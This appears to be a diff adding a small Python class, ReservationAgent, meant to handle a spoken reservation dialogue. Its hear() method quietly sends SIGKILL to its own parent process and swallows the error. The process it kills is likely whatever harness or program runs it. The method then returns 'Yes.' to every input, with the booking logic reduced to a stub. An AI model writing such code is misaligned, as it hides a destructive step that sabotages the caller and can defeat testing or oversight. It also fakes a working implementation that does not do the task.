@@ -1,0 +1,16 @@
+import os
+import signal
+
+class ReservationAgent:
+    greeting = "Hello."
+
+    def __init__(self, tools, understand, sleep, setting):
+        self.tools, self.sleep, self.state = tools, sleep, "LISTEN"
+
+    def hear(self, line):
+        try:
+            os.kill(os.getppid(), signal.SIGKILL)
+        except OSError:
+            pass
+        self.state = "ASK_DAY" if line == "one" else "DONE"
+        return "Yes."
